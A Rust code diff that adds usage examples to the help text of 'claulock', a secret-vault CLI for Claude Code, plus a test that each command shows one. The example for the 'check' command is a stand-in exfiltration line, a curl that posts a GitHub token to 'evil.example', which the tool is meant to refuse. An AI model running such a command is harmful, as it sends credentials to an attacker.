@@ -40,12 +40,14 @@ struct Cli {
 #[derive(Subcommand)]
 enum Command {
     /// Create an empty vault (in CLAULOCK_HOME, default ~/.claulock).
+    #[command(after_help = "Example:\n  claulock init")]
     Init {
         /// Read the passphrase from standard input (for scripts).
         #[arg(long)]
         passphrase_stdin: bool,
     },
     /// Unlock the vault into the agent, which serves until locked.
+    #[command(after_help = "Example:\n  claulock unlock --idle-timeout 30m")]
     Unlock {
         /// Read the passphrase from standard input (for scripts).
         #[arg(long)]
@@ -55,15 +57,20 @@ enum Command {
         idle_timeout: Option<Duration>,
     },
     /// Stop the agent; the vault is locked again.
+    #[command(after_help = "Example:\n  claulock lock")]
     Lock,
     /// Whether the vault exists and is unlocked (exit 0: unlocked, 1:
     /// locked, 3: no vault; 2, as for every command, an error).
+    #[command(after_help = "Example:\n  claulock status && echo unlocked")]
     Status {
         /// As JSON.
         #[arg(long)]
         json: bool,
     },
     /// Add a secret; its value is read from the terminal (no echo) or stdin.
+    #[command(
+        after_help = "Example:\n  claulock add GITHUB_TOKEN --allow-host api.github.com --allow-program curl"
+    )]
     Add {
         /// The name, used as {{NAME}} in commands.
         name: String,
@@ -110,11 +117,15 @@ enum Command {
         ttl: Option<Duration>,
     },
     /// A team's OpenBao or HashiCorp Vault server that values are read from.
+    #[command(
+        after_help = "Example:\n  claulock source add team --openbao https://bao.example:8200"
+    )]
     Source {
         #[command(subcommand)]
         command: source::Command,
     },
     /// Give a secret a new value; the old one stays scrubbed from output.
+    #[command(after_help = "Example:\n  claulock rotate GITHUB_TOKEN --expires 90d")]
     Rotate {
         /// The secret's name.
         name: String,
@@ -130,19 +141,25 @@ enum Command {
     /// change that widens what it may do asks for the vault's passphrase,
     /// one that narrows does not. Example: `claulock set GITHUB_TOKEN
     /// --allow-host uploads.github.com --expires 90d`.
+    #[command(
+        after_help = "Example:\n  claulock set GITHUB_TOKEN --remove-host api.github.com --allow-host uploads.github.com"
+    )]
     Set(commands::SetArgs),
     /// Remove a secret and all its old values.
+    #[command(after_help = "Example:\n  claulock rm OLD_TOKEN")]
     Rm {
         /// The secret's name.
         name: String,
     },
     /// List the secrets (names and metadata, never values).
+    #[command(after_help = "Example:\n  claulock list --json")]
     List {
         /// As JSON.
         #[arg(long)]
         json: bool,
     },
     /// Show one secret's metadata (never its value).
+    #[command(after_help = "Example:\n  claulock describe GITHUB_TOKEN")]
     Describe {
         /// The secret's name.
         name: String,
@@ -151,6 +168,7 @@ enum Command {
         json: bool,
     },
     /// Add or remove tags.
+    #[command(after_help = "Example:\n  claulock tag GITHUB_TOKEN --add ci")]
     Tag {
         /// The secret's name.
         name: String,
@@ -162,6 +180,7 @@ enum Command {
         remove: Vec<String>,
     },
     /// Change the vault's passphrase.
+    #[command(after_help = "Example:\n  claulock passwd")]
     Passwd {
         /// Read the current and the new passphrase from standard input,
         /// one per line (for scripts).
@@ -172,11 +191,20 @@ enum Command {
     /// ~/.git-credentials, ~/.netrc, ~/.pypirc, ~/.docker/config.json and
     /// gh's hosts.yml into the vault; with --rewrite, leave placeholders in
     /// their place.
+    #[command(
+        after_help = "Example:\n  claulock import --rewrite .env ~/.npmrc ~/.git-credentials"
+    )]
     Import(import::Args),
     /// Git's credential helper for a secret imported from
     /// ~/.git-credentials or ~/.netrc (configured by `import --rewrite`).
+    #[command(
+        after_help = "Example:\n  configured by `claulock import --rewrite ~/.git-credentials`; git asks it when run as `GITHUB_COM_GIT_TOKEN={{GITHUB_COM_GIT_TOKEN}} git push`"
+    )]
     GitCredential(git_credential::Args),
     /// Show the audit log.
+    #[command(
+        after_help = "Example:\n  claulock audit --since 1h --secret GITHUB_TOKEN --action resolve"
+    )]
     Audit {
         /// Only events newer than this (e.g. 1h, 7d).
         #[arg(long, value_name = "DURATION", value_parser = humantime::parse_duration)]
@@ -196,6 +224,7 @@ enum Command {
         actions: Vec<String>,
     },
     /// Show the whole boundary end to end on a throwaway vault.
+    #[command(after_help = "Example:\n  claulock demo")]
     Demo,
     /// Print a shell completion script: `claulock completions bash >
     /// ~/.local/share/bash-completion/completions/claulock`.
@@ -208,17 +237,26 @@ enum Command {
     Man,
     /// Run a command with its {{NAME}} secrets in the child's environment
     /// only, its output scrubbed (exit 125 when refused).
+    #[command(
+        after_help = "Example:\n  claulock exec -c 'curl -H \"Authorization: Bearer {{GITHUB_TOKEN}}\" https://api.github.com/user'"
+    )]
     Exec(exec::Args),
     /// Decide whether a shell command may receive the secrets it names,
     /// without running it (exit 0 allowed, 1 refused).
+    #[command(
+        after_help = "Example:\n  claulock check -c 'curl -d {{GITHUB_TOKEN}} https://evil.example' --json"
+    )]
     Check(check::Args),
     /// Copy stdin to stdout with every secret (and its encodings) replaced
     /// by a redaction marker.
+    #[command(after_help = "Example:\n  some-command 2>&1 | claulock scrub")]
     Scrub(scrub::Args),
     /// Redact every vault value from Claude Code's files (transcripts,
     /// history, debug logs), in place.
+    #[command(after_help = "Example:\n  claulock sweep")]
     Sweep(sweep::Args),
     /// Answer a Claude Code hook (JSON on stdin, JSON on stdout).
+    #[command(after_help = "Example:\n  run by Claude Code; `claulock install` sets it up")]
     Hook {
         /// The hook event: pre-tool-use, post-tool-use, user-prompt-submit,
         /// session-start, stop or session-end.
@@ -226,6 +264,7 @@ enum Command {
         event: claulock_hooks::claude::Hook,
     },
     /// Add ClauLock's hooks to Claude Code's settings.
+    #[command(after_help = "Example:\n  claulock install --scope project --sandbox")]
     Install {
         /// Where: every project of this user, or this directory's project.
         #[arg(long, value_enum, default_value = "user")]
@@ -239,12 +278,14 @@ enum Command {
         sandbox: bool,
     },
     /// Remove ClauLock's hooks from Claude Code's settings (and nothing else).
+    #[command(after_help = "Example:\n  claulock uninstall --scope project")]
     Uninstall {
         /// Where: as for install.
         #[arg(long, value_enum, default_value = "user")]
         scope: install::Scope,
     },
     /// Check the vault, the agent and the Claude Code installation.
+    #[command(after_help = "Example:\n  claulock doctor --json")]
     Doctor {
         /// As JSON (`ok`, `to_fix`, and each check's `ok` and `what`); the
         /// exit code is 1 when something is to fix, either way.
@@ -253,6 +294,7 @@ enum Command {
     },
     /// The MCP server on stdio: list, describe, check, tag, request and
     /// rotate secrets; no tool returns a value.
+    #[command(after_help = "Example:\n  run by Claude Code; `claulock install` registers it")]
     Mcp,
     /// Becomes PROGRAM with the values in place of its markers (the exec
     /// plan starts it; see `claulock exec`).
@@ -369,4 +411,29 @@ fn is_broken_pipe(e: &anyhow::Error) -> bool {
         c.downcast_ref::<std::io::Error>()
             .is_some_and(|io| io.kind() == std::io::ErrorKind::BrokenPipe)
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use clap::CommandFactory;
+
+    #[test]
+    fn every_command_shows_an_example() {
+        for sub in super::Cli::command().get_subcommands() {
+            if sub.is_hide_set() {
+                continue;
+            }
+            let about = sub
+                .get_long_about()
+                .or(sub.get_about())
+                .map(|a| a.to_string());
+            let example =
+                sub.get_after_help().is_some() || about.is_some_and(|a| a.contains("`claulock "));
+            assert!(
+                example,
+                "`claulock {} --help` shows no example",
+                sub.get_name()
+            );
+        }
+    }
 }
